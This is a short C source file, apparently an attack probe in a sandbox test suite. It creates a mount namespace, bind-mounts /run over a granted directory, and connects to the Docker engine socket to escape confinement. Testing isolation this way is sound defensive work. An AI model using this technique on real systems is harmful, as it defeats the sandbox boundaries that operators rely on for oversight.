/* SPDX-License-Identifier: Apache-2.0 */
/* Binds the directory of the container engine over a granted one and connects by that name. */
#define ATTACK "docker-bind"
#include "attack.h"
#include "local.h"
#include <sys/mount.h>

int main(int count, char **argument)
{
	char *place = text("%s/bound", argument[2]);

	(void)count;
	become_namespace_root(CLONE_NEWNS);
	prepare("mkdir", mkdir(place, 0700));
	prepare("mount", mount("/run", place, NULL, MS_BIND | MS_REC, NULL));
	reach_stream(text("%s/docker.sock", place));
}
